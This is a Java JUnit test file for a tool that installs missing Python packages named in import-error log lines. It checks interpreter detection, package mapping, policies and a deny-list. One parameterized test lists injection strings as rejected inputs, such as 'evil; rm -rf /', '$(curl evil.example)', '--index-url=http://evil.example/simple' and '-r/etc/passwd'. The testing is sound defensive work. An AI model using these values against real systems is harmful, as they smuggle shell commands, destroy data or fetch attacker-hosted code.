package dev.medic.fix;

import dev.medic.Fixtures;
import dev.medic.catalog.Catalog;
import dev.medic.catalog.Settings;
import dev.medic.facts.CatalogEntry;
import dev.medic.facts.Failure;
import dev.medic.facts.LogEvent;
import dev.medic.facts.RunSpec;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Module names come from log text: anything but a plain, known name is refused and nothing runs. */
class PipInstallTest {
    private static Catalog catalog;

    @TempDir
    Path tmp;

    @BeforeAll
    static void load() {
        catalog = Fixtures.defaultCatalog();
    }

    private static FixPlan plan(String logLine, List<String> argv, Map<String, Object> runSettings) {
        CatalogEntry entry = catalog.entry("import_error");
        Failure f = Failure.fromLine(entry, new LogEvent(1, "stderr", 7, logLine, 0, List.of()));
        Settings s = catalog.fixSettings("pip_install").with("run options", runSettings);
        return new PipInstall().plan(new RunSpec(argv, Map.of("PATH", "/usr/bin:/bin"), Path.of("/tmp")), new FixContext(s, f, null, 1));
    }

    private static FixPlan plan(String logLine) {
        return plan(logLine, List.of("python3", "train.py"), Map.of());
    }

    @Test
    void aMappedModuleIsInstalledWithTheRunsOwnInterpreter() {
        FixPlan.Change c = assertInstanceOf(FixPlan.Change.class, plan("ModuleNotFoundError: No module named 'cv2'",
                List.of("/opt/venv/bin/python3.11", "-u", "train.py"), Map.of()));
        FixAction.RunCommand install = assertInstanceOf(FixAction.RunCommand.class, c.actions().get(0));
        assertEquals(List.of("/opt/venv/bin/python3.11", "-m", "pip", "install", "--no-input", "opencv-python"), install.argv());
        assertEquals(List.of("/opt/venv/bin/python3.11", "-u", "train.py"), c.next().getArgv(), "the command itself is unchanged");
    }

    @Test
    void theTopLevelNameIsTaken() {
        FixPlan.Change c = assertInstanceOf(FixPlan.Change.class, plan("ModuleNotFoundError: No module named 'sklearn.linear_model'"));
        assertEquals("scikit-learn", ((FixAction.RunCommand) c.actions().get(0)).argv().get(5));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "No module named '--index-url=http://evil.example/simple'",
            "No module named '-r/etc/passwd'",
            "No module named '../../etc/passwd'",
            "No module named '/tmp/evil'",
            "No module named 'https://evil.example/pkg.tar.gz'",
            "No module named 'git+https://evil.example/x.git'",
            "No module named 'numpy==1.0;rm'",
            "No module named 'requests>=2'",
            "No module named 'evil; rm -rf /'",
            "No module named '$(curl evil.example)'",
            "No module named '`id`'",
            "No module named 'a|b'",
            "No module named '1abc'",
            "No module named 'x\u0000y'",
    })
    void namesThatSmuggleOptionsPathsUrlsShellOrVersionsAreRejected(String line) {
        FixPlan p = plan(line);
        FixPlan.Cannot c = assertInstanceOf(FixPlan.Cannot.class, p, () -> "must not install for: " + line);
        assertTrue(c.reason().contains("rejected") || c.reason().contains("not in the catalog"), c.reason());
    }

    @Test
    void anUnknownNameIsNotInstalledByDefaultButTheMessageSaysHow() {
        FixPlan.Cannot c = assertInstanceOf(FixPlan.Cannot.class, plan("ModuleNotFoundError: No module named 'xbgoost'"));
        assertTrue(c.reason().contains("typo"), c.reason());
        assertTrue(c.reason().endsWith("python3 -m pip install xbgoost"), c.reason());
        FixPlan.Change any = assertInstanceOf(FixPlan.Change.class, plan("ModuleNotFoundError: No module named 'xbgoost'",
                List.of("python3", "train.py"), Map.of("policy", "any")));
        assertEquals("xbgoost", ((FixAction.RunCommand) any.actions().get(0)).argv().get(5));
    }

    @Test
    void theDenyListWinsOverEveryPolicy() {
        FixPlan.Cannot c = assertInstanceOf(FixPlan.Cannot.class, plan("ModuleNotFoundError: No module named 'amp_C'",
                List.of("python3", "train.py"), Map.of("policy", "any")));
        assertTrue(c.reason().contains("deny-list"), c.reason());
    }

    @Test
    void cannotImportNameIsNotAMissingModule() {
        FixPlan.Cannot c = assertInstanceOf(FixPlan.Cannot.class, plan("ImportError: cannot import name 'soft_unicode' from 'markupsafe'"));
        assertTrue(c.reason().contains("not a missing module"), c.reason());
    }

    @Test
    void aLauncherNamesItsPythonInItsShebang() throws Exception {
        Path bin = Files.createDirectories(tmp.resolve("venv/bin"));
        Path torchrun = bin.resolve("torchrun");
        Files.writeString(torchrun, "#!" + bin.resolve("python3") + "\n# -*- coding: utf-8 -*-\nimport sys\n");
        Files.setPosixFilePermissions(torchrun, PosixFilePermissions.fromString("rwxr-xr-x"));
        RunSpec spec = new RunSpec(List.of("torchrun", "--nproc_per_node", "2", "train.py"), Map.of("PATH", bin.toString()), tmp);
        assertEquals(bin.resolve("python3").toString(), PipInstall.interpreter(spec));
        Files.writeString(torchrun, "#!/usr/bin/env python3.11\n");
        assertEquals("python3.11", PipInstall.interpreter(spec));
        Files.writeString(torchrun, "#!/bin/bash\nexec something\n");
        assertEquals(null, PipInstall.interpreter(spec));
    }

    @Test
    void anExplicitPipCommandIsUsedAsGiven() {
        FixPlan.Change c = assertInstanceOf(FixPlan.Change.class, plan("No module named yaml", List.of("./run.sh"),
                Map.of("command", List.of("/opt/env/bin/python", "-m", "pip"))));
        assertEquals(List.of("/opt/env/bin/python", "-m", "pip", "install", "--no-input", "pyyaml"),
                ((FixAction.RunCommand) c.actions().get(0)).argv());
    }

    @Test
    void aQuotedNameIsTakenWholeAndANameWithASpaceIsRejected() {
        FixPlan.Cannot c = assertInstanceOf(FixPlan.Cannot.class, plan("ModuleNotFoundError: No module named 'foo bar'",
                List.of("python3", "t.py"), Map.of("policy", "any")));
        assertTrue(c.reason().contains("rejected"), c.reason());
    }
}
